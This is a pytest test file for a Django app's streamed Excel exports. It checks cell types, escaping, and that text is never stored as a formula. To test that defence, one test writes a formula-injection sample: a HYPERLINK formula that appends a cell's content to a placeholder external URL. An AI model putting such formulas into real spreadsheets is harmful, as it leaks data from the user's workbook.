"""Staff's Excel exports (core/excel.py, core/xlsx_stream.py): a list streamed while it is read, Chinese headers,
Beijing time, every cell in a type Excel reads, no text ever a formula."""

from __future__ import annotations

import datetime as dt
import enum
import io
import zipfile

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from zhengtong.core.excel import xlsx_bytes, xlsx_response


def _read(response):
    return load_workbook(io.BytesIO(b"".join(response.streaming_content))).active


def test_an_export_is_streamed_and_its_first_bytes_leave_before_its_rows_are_read():
    """Issue 26 (exports streamed): the download starts at once and grows as the rows are read, so a long export
    shows its progress in the browser instead of a page that waits."""
    read = []

    def rows():
        for n in range(3000):
            read.append(n)
            yield {"no": f"BL{n}", "n": n}

    response = xlsx_response("办件", [("no", "编号"), ("n", "序号")], rows())
    assert response.streaming and response["Content-Disposition"].startswith("attachment; filename*=UTF-8''")
    parts = iter(response.streaming_content)
    assert next(parts) and len(read) == 1  # the first row is read in the view: a failing query is its 500
    rest = b"".join(parts)
    assert len(read) == 3000 and rest


def test_a_query_that_fails_is_the_requests_error_not_a_file_cut_off_after_200():
    def rows():
        raise RuntimeError("the database went away")
        yield

    with pytest.raises(RuntimeError):
        xlsx_response("办件", [("no", "编号")], rows())


class Score(enum.IntEnum):
    GOOD = 5


def test_a_streamed_export_reads_back_in_excel_types():
    at = timezone.make_aware(dt.datetime(2026, 3, 1, 9, 30, 5), timezone.get_fixed_timezone(480))
    row = {"text": "=1+1 <b>&", "n": 42, "rate": 97.5, "day": dt.date(2026, 3, 1), "at": at, "none": None, "ok": True}
    row |= {"json": {"状态": ["待受理", "已受理"]}, "bad": "控制\x01字符\ud800", "score": Score.GOOD}
    row |= {"inf": float("inf"), "escape": "_x0041_"}
    columns = [(k, k) for k in row]
    sheet = _read(xlsx_response("导出/测试:[1]'", columns, [row]))
    values = [c.value for c in sheet[2]]
    assert values[:5] == ["=1+1 <b>&", 42, 97.5, dt.datetime(2026, 3, 1), dt.datetime(2026, 3, 1, 9, 30, 5)]
    assert values[5] is None and values[6] is True
    assert values[7] == '{"状态": ["待受理", "已受理"]}' and values[8] == "控制字符" and values[9] == 5
    assert values[10] is None  # Excel has no infinity: an empty cell, not a damaged file
    assert sheet[1][0].font.b and sheet.title == "导出测试1"
    assert sheet.cell(2, 1).data_type == "s"  # text, never a formula


def test_the_file_is_a_valid_zip_whose_sheet_escapes_excels_own_escapes():
    book = zipfile.ZipFile(io.BytesIO(b"".join(xlsx_bytes("表", [("t", "文本")], [{"t": "_x0041_"}]))))
    assert book.testzip() is None
    assert b"_x005F_x0041_" in book.read("xl/worksheets/sheet1.xml")


def test_a_querysets_export_reads_one_row_before_the_download_starts(db, django_assert_num_queries):
    from zhengtong.org.models import Department

    with django_assert_num_queries(1):
        response = xlsx_response("部门", [("name", "名称")], Department.objects.order_by("pk"))
    assert _read(response).max_row == 1 + Department.objects.count()


def test_a_workbook_openpyxl_built_writes_no_text_as_a_formula():
    """Issue 26 leftover: openpyxl makes any text starting with "=" a formula, so a guide's note or a request's
    description "=HYPERLINK(...)" typed by someone ran in the exporting clerk's Excel. The catalogue export and the
    annual report are built this way."""
    from openpyxl import Workbook

    from zhengtong.core.excel import workbook_response

    book = Workbook()
    book.active.append(['=HYPERLINK("http://x.example/?"&A2,"点此")', "+1+1", 3])
    saved = load_workbook(io.BytesIO(workbook_response("清单", book).content)).active
    assert [c.data_type for c in saved[1]] == ["s", "s", "n"]
    assert saved.cell(1, 1).value.startswith("=HYPERLINK")
